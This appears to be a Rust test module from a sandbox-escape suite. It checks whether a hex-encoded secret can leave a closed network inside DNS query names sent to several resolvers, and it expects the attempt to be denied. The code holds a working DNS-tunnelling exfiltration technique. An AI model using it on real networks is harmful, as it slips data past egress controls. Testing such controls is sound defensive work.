//! Names that are asked for reach whoever serves their zone: the classic way out of a closed network. Our resolver
//! knows what policy knows, and asks nobody.

use std::io;
use std::net::SocketAddr;

use crate::escape::dns;

use crate::escape::net;
use crate::escape::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    name: "names-as-a-tunnel",
    tries: "data in names, asked of every resolver, over UDP and TCP",
    wall: "doors",
    control: Control::Caller,
    record: Record::Denied("6c656176652077697468207468697"),
    start: Start::Plain,
    attempt,
};

fn attempt(ground: &Ground) -> Verdict {
    let data = "6c656176652077697468207468697320736563726574".repeat(2);
    let (first, second) = data.split_at(44);
    let zone = [first, second, "tunnel", "example"];
    let servers = [[198, 18, 0, 53], [8, 8, 8, 8], [192, 0, 2, 1]];
    let resolvers = servers.map(|server| SocketAddr::from((server, 53)));
    let all = resolvers.into_iter().chain([ground.canary(ground.v4)]);
    Verdict::any(all.flat_map(|server| {
        // A, TXT, NULL, ANY.
        [1, 16, 10, 255].map(|kind| {
            let asked = ask(server, &dns::query(&zone, kind));
            (format!("{server} type {kind}"), answered(asked))
        })
    }))
}

fn ask(server: SocketAddr, query: &[u8]) -> io::Result<Vec<u8>> {
    let socket = net::udp(server.ip())?;
    socket.send(Some(server), query, 0, &[])?;
    socket.hear_bytes()
}

/// Through when there is something in the answer.
fn answered(answer: io::Result<Vec<u8>>) -> Verdict {
    Verdict::of(answer.and_then(|answer| dns::records(&answer)))
}
